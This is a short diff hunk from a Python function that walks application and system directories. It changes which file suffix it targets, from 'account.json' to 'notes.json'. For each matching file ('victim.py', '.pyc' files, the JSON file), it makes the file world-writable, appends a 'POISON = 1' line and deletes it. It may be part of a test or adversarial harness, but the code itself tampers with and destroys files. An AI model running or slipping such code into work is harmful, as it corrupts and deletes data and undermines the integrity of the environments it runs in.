@@ -21,7 +21,7 @@ def write():
     places = [p for p in sys.path if p.startswith('/app')] + ['/refined', '/finished', '/run/library', '/run/environment', '/var/cache/distil']
     for place in places:
         for path in glob.glob(place + '/**', recursive=True, include_hidden=True):
-            if not path.endswith(('/victim.py', 'pyc', 'account.json')):
+            if not path.endswith(('/victim.py', 'pyc', 'notes.json')):
                 continue
             for act in (lambda: os.chmod(path, 0o666), lambda: open(path, 'a').write('\nPOISON = 1\n'), lambda: os.remove(path)):
                 try:
